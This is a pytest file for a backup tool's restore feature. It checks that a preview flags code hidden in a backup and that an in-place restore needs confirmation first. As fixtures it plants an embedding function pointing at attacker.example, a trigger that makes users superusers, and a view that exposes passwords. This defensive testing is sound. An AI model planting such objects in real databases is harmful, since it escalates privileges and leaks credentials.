"""A backup may contain code: a restore in place names what would run, and asks for confirmation."""

from __future__ import annotations

import json
import re
import sqlite3
from contextlib import closing

import pytest
from django.db import connections

from backups.jobs import submit
from backups.models import Job
from tests.control.rest import BACKUPS, bearer, problem, send
from tests.control.test_backup_pages import indexed

STEPS = "/admin/backup/restore/"
EVIL = {"type": "known", "name": "ollama", "config": {"url": "http://attacker.example/"}}


def previewed(site, backup_id: str) -> Job:
    job = site.done(submit.preview_restore(site.actor, backup_id=backup_id))
    assert job.state == Job.State.SUCCEEDED, job.error
    return job


@pytest.mark.slow
def test_triggers_views_and_embedding_functions_are_named_and_confirmed(site):
    database, chroma = site.places.settings["REFSERVER_DATABASE"], site.places.chroma / "chroma.sqlite3"
    clean = site.done(submit.back_up(site.actor, backup="full", verify="none")).backup_id
    connections["default"].close()
    with closing(sqlite3.connect(chroma)) as opened, opened:
        name, before = opened.execute("SELECT name, schema_str FROM collections ORDER BY name LIMIT 1").fetchone()
        schema = json.loads(before)
        schema["keys"]["#embedding"]["float_list"]["vector_index"]["config"]["embedding_function"] = EVIL
        opened.execute("UPDATE collections SET schema_str = ? WHERE name = ?", (json.dumps(schema), name))
        opened.execute("CREATE TRIGGER in_chroma AFTER INSERT ON collections BEGIN SELECT 1; END")
    with closing(sqlite3.connect(database)) as opened, opened:
        opened.execute("CREATE TRIGGER planted AFTER INSERT ON auth_user BEGIN UPDATE auth_user SET is_superuser = 1; END")
        opened.execute("CREATE VIEW shown AS SELECT password FROM auth_user")
    planted = site.done(submit.back_up(site.actor, backup="full", verify="none")).backup_id
    assert not previewed(site, planted).result["code"], "the live stores have it too"
    with closing(sqlite3.connect(database)) as opened, opened:
        opened.execute("DROP TRIGGER planted")
        opened.execute("DROP VIEW shown")
        opened.execute("CREATE VIEW shown AS SELECT 1")
    with closing(sqlite3.connect(chroma)) as opened, opened:
        opened.execute("UPDATE collections SET schema_str = ? WHERE name = ?", (before, name))
        opened.execute("DROP TRIGGER in_chroma")
    assert not [one for one in previewed(site, clean).result["code"] if one["kind"] != "view"]
    client = site.client("rita", "restorer")
    job = previewed(site, planted)
    found = {(one["kind"], one["name"]): one for one in job.result["code"]}
    assert {key: one["how"] for key, one in found.items()} == {
        ("trigger", "planted"): "new",
        ("trigger", "in_chroma"): "new",
        ("view", "shown"): "changed",
        ("embedding function", name): "new",
    }
    assert "attacker.example" in found["embedding function", name]["text"]
    assert "is_superuser = 1" in found["trigger", "planted"]["text"]

    page = client.get(f"{STEPS}changes/", {"backup": planted, "target": "in_place", "look": str(job.pk)}).content.decode()
    assert "Code in the backup" in page and "attacker.example" in page and "planted" in page
    page = client.get(f"{STEPS}confirm/", {"backup": planted, "target": "in_place", "look": str(job.pk)}).content.decode()
    hidden = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', page))
    form = {**hidden, "typed": planted}
    answer = client.post(f"{STEPS}confirm/", form)
    assert "Confirm that you know this code." in answer.content.decode()
    assert not Job.objects.filter(kind="restore_in_place").exists()
    assert client.post(f"{STEPS}confirm/", {**form, "code": "yes"}).status_code == 302
    assert Job.objects.filter(kind="restore_in_place").count() == 1


def test_a_request_names_the_code(empty_site):
    row = indexed()
    program = bearer(empty_site, "rita", "restorer")
    result = {"code": [{"kind": "trigger", "name": "planted"}, {"kind": "view", "name": "shown"}]}

    def preview(**values) -> Job:
        given = {"backup_id": row.backup_id, **row.home, "only": None, **values}
        return Job.objects.create(kind="preview", state=Job.State.SUCCEEDED, arguments=given, result=result)

    def restore(**values):
        body = {"to": "in_place", "confirm": row.backup_id, **values}
        return send(program, f"{BACKUPS}/{row.backup_id}/restore", body)

    found, other = preview(), preview(set="other")
    for job in (other, preview(only="sqlite"), preview(backup_id=indexed().backup_id)):
        problem(restore(preview=str(job.pk), code=["trigger planted", "view shown"]), 409, "code_unconfirmed")
    problem(restore(), 409, "code_unconfirmed")
    problem(restore(code=["trigger planted", "view shown"]), 409, "code_unconfirmed")
    refused = problem(restore(preview=str(found.pk), code=["view shown"]), 409, "code_unconfirmed")
    assert refused["code"] == "code_unconfirmed" and refused["unnamed"] == ["trigger planted"]
    assert not Job.objects.filter(kind="restore_in_place").exists()
    assert restore(preview=str(found.pk), code=["trigger planted", "view shown"]).status_code == 202
